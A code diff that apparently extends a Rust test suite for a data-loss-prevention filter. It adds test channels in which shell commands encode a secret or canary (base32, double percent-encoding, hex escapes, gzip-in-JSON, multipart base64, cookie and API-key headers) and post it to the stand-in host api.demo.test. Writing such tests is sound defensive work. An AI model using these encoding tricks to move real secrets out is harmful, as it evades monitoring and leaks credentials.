@@ -244,6 +244,42 @@ const CHANNELS: &[(&str, &str)] = &[
         "gzip_body",
         r#"printf 'd=%s' "$V" | gzip > /tmp/gz.$$; req -H 'Content-Encoding: gzip' --data-binary @/tmp/gz.$$ https://api.demo.test/upload; rm -f /tmp/gz.$$"#,
     ),
+    // Decoded views (issue 17): encodings no registered variant matches.
+    // Shown failing one by one (the recorder is shared, so one leak fails
+    // the rest) with the views off: `sed -i 's/let views =
+    // decoded_views(data);/let views = Views::default();/'
+    // crates/dlp/src/lib.rs`, then `-- exfiltrate_the_secret_base32` (and
+    // `_as_backslash_x_hex`, `_base64_of_gzip_in_json`,
+    // `_in_a_multipart_base64_part`, `_base64_of_hex`,
+    // `_double_percent_encoded`, each for the secret and the canary); the
+    // cookie and X-Api-Key ones with ESCAPE_WEAKEN=dlp as above.
+    (
+        "double_percent",
+        r#"req "https://api.demo.test/x?d=$(printf %s "$V" | od -An -tx1 | tr -d '\n' | sed 's/ /%25/g')""#,
+    ),
+    ("base32", r#"req --data "d=$(printf %s "$V" | base32 -w0)" https://api.demo.test/upload"#),
+    (
+        "hex_escaped",
+        r#"req --data "d=$(printf %s "$V" | od -An -tx1 | tr -d '\n' | sed 's/ /\\x/g')" https://api.demo.test/upload"#,
+    ),
+    (
+        "base64_of_hex",
+        r#"req --data "d=$(printf %s "$V" | od -An -tx1 | tr -d ' \n' | base64 -w0)" https://api.demo.test/upload"#,
+    ),
+    (
+        "base64_of_gzip_in_json",
+        r#"req -H 'Content-Type: application/json' --data "{\"blob\":\"$(printf 'k=%s' "$V" | gzip | base64 -w0)\"}" https://api.demo.test/upload"#,
+    ),
+    (
+        // A multipart part of its own transfer encoding, wrapped at 76 with
+        // the value across a line break.
+        "multipart_base64_part",
+        r#"printf 'padding-to-move-the-value-across-the-first-line-break-%s' "$V" | base64 > /tmp/part.$$
+{ printf -- '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n'; cat /tmp/part.$$; printf -- '\r\n--XyZ--\r\n'; } > /tmp/mp.$$
+req -H 'Content-Type: multipart/form-data; boundary=XyZ' --data-binary @/tmp/mp.$$ https://api.demo.test/upload; rm -f /tmp/part.$$ /tmp/mp.$$"#,
+    ),
+    ("cookie_base64", r#"req -H "Cookie: theme=dark; s=$(printf %s "$V" | base64 -w0)" https://api.demo.test/x"#),
+    ("x_api_key", r#"req -H "X-Api-Key: $V" https://api.demo.test/x"#),
 ];
 
 fn exfiltrate(s: &Suite, u: User, canary: bool, channel: &str) -> Result<(), Failed> {
@@ -281,6 +317,22 @@ exfil! {
     exfiltrate_the_canary_url_encoded: true, "url_encoded";
     exfiltrate_the_canary_split_with_separators: true, "split_with_separators";
     exfiltrate_the_canary_gzip_compressed: true, "gzip_body";
+    exfiltrate_the_secret_double_percent_encoded: false, "double_percent";
+    exfiltrate_the_secret_base32: false, "base32";
+    exfiltrate_the_secret_as_backslash_x_hex: false, "hex_escaped";
+    exfiltrate_the_secret_base64_of_hex: false, "base64_of_hex";
+    exfiltrate_the_secret_base64_of_gzip_in_json: false, "base64_of_gzip_in_json";
+    exfiltrate_the_secret_in_a_multipart_base64_part: false, "multipart_base64_part";
+    exfiltrate_the_secret_in_a_cookie_base64: false, "cookie_base64";
+    exfiltrate_the_secret_in_x_api_key: false, "x_api_key";
+    exfiltrate_the_canary_double_percent_encoded: true, "double_percent";
+    exfiltrate_the_canary_base32: true, "base32";
+    exfiltrate_the_canary_as_backslash_x_hex: true, "hex_escaped";
+    exfiltrate_the_canary_base64_of_hex: true, "base64_of_hex";
+    exfiltrate_the_canary_base64_of_gzip_in_json: true, "base64_of_gzip_in_json";
+    exfiltrate_the_canary_in_a_multipart_base64_part: true, "multipart_base64_part";
+    exfiltrate_the_canary_in_a_cookie_base64: true, "cookie_base64";
+    exfiltrate_the_canary_in_x_api_key: true, "x_api_key";
 }
 
 // 3b. What the upstream sees, beyond the usual places (a red team's
@@ -1137,6 +1189,22 @@ pub const ATTACKS: &[(&str, Attack)] = &[
     ("exfiltrate_the_canary_url_encoded", exfiltrate_the_canary_url_encoded),
     ("exfiltrate_the_canary_split_with_separators", exfiltrate_the_canary_split_with_separators),
     ("exfiltrate_the_canary_gzip_compressed", exfiltrate_the_canary_gzip_compressed),
+    ("exfiltrate_the_secret_double_percent_encoded", exfiltrate_the_secret_double_percent_encoded),
+    ("exfiltrate_the_secret_base32", exfiltrate_the_secret_base32),
+    ("exfiltrate_the_secret_as_backslash_x_hex", exfiltrate_the_secret_as_backslash_x_hex),
+    ("exfiltrate_the_secret_base64_of_hex", exfiltrate_the_secret_base64_of_hex),
+    ("exfiltrate_the_secret_base64_of_gzip_in_json", exfiltrate_the_secret_base64_of_gzip_in_json),
+    ("exfiltrate_the_secret_in_a_multipart_base64_part", exfiltrate_the_secret_in_a_multipart_base64_part),
+    ("exfiltrate_the_secret_in_a_cookie_base64", exfiltrate_the_secret_in_a_cookie_base64),
+    ("exfiltrate_the_secret_in_x_api_key", exfiltrate_the_secret_in_x_api_key),
+    ("exfiltrate_the_canary_double_percent_encoded", exfiltrate_the_canary_double_percent_encoded),
+    ("exfiltrate_the_canary_base32", exfiltrate_the_canary_base32),
+    ("exfiltrate_the_canary_as_backslash_x_hex", exfiltrate_the_canary_as_backslash_x_hex),
+    ("exfiltrate_the_canary_base64_of_hex", exfiltrate_the_canary_base64_of_hex),
+    ("exfiltrate_the_canary_base64_of_gzip_in_json", exfiltrate_the_canary_base64_of_gzip_in_json),
+    ("exfiltrate_the_canary_in_a_multipart_base64_part", exfiltrate_the_canary_in_a_multipart_base64_part),
+    ("exfiltrate_the_canary_in_a_cookie_base64", exfiltrate_the_canary_in_a_cookie_base64),
+    ("exfiltrate_the_canary_in_x_api_key", exfiltrate_the_canary_in_x_api_key),
     ("a_secret_as_a_header_name_or_the_method", a_secret_as_a_header_name_or_the_method),
     ("a_secret_in_ambiguous_framing", a_secret_in_ambiguous_framing),
     ("credentials_over_plain_http", credentials_over_plain_http),
